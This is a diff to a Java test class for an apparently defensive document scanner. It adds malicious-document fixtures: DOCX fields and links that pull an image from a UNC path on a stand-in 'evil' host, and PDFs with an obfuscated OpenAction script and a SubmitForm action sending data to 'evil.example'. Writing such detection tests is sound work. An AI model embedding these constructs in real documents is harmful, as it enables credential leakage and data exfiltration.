@@ -67,6 +67,13 @@ class DocumentTest extends CampusTest {
     files.put("links.docx", OfficeFile.docx().withLinks(60_000).bytes());
     files.put("field.docx", OfficeFile.docx().withField(" HYPERLINK ", "&quot;a&quot;").bytes());
     files.put(
+        "picture.docx",
+        OfficeFile.docx()
+            .withField("INCLUDEPICTURE \"C:\\\\Pictures\\\\a.png\" \\* MERGEFORMAT")
+            .linking(SETTINGS, "image", "https://example.org/a.png")
+            .bytes());
+    files.put("twofold.pdf", PdfFile.twofold(" ".repeat(400), "", "/Lang(en)"));
+    files.put(
         "inner.docx", OfficeFile.docx().with("word/embeddings/a.xlsx", Papers.xlsx()).bytes());
     files.put("old.doc", Papers.compound("Root Entry", "worddocument"));
     files.put("old.xls", Papers.compound("ROOT ENTRY", "WORKBOOK"));
@@ -170,6 +177,12 @@ class DocumentTest extends CampusTest {
           docx(OfficeFile.docx().linking(SETTINGS, "attachedTemplate", target), REMOTE_CONTENT));
       files.add(docx(OfficeFile.docx().linking(CHART, "oleObject", target), REMOTE_CONTENT));
     }
+    String picture = "\\\\evil\\a.png";
+    files.add(docx(OfficeFile.docx().linking(SETTINGS, "image", picture), REMOTE_CONTENT));
+    files.add(
+        docx(
+            OfficeFile.docx().withField("INCLUDEPICTURE ", "\"\\\\\\\\evil\\\\a.png\" \\d"),
+            REMOTE_CONTENT));
     files.add(
         docx(
             OfficeFile.docx().linking(CHART, "oleObject", "file:///C:\\Temp\\a.exe"),
@@ -225,6 +238,13 @@ class DocumentTest extends CampusTest {
         pdf(Papers.pdfWithFile("invoice.lnk"), CARRIES_PROGRAM),
         pdf(Papers.pdfWithFile("marks.xlsm"), CARRIES_PROGRAM),
         pdf(Papers.joined(Papers.text("\n"), Papers.pdfWithScript()), ACTIVE_CONTENT),
+        pdf(
+            PdfFile.twofold(" ".repeat(400), "", "/OpenAction<</S/J#61vaScript/JS(app.alert(1))>>"),
+            ACTIVE_CONTENT),
+        pdf(
+            PdfFile.twofold(
+                " ".repeat(400), "/OpenAction<</S/SubmitForm/F(https://evil.example/)>>", ""),
+            ACTIVE_CONTENT),
         pdf(Papers.joined(Papers.text("MZ\u0000 \r\n"), Papers.pdf()), TWO_KINDS),
         pdf(Papers.joined(Papers.text("\n<html>"), Papers.pdf()), TWO_KINDS));
   }
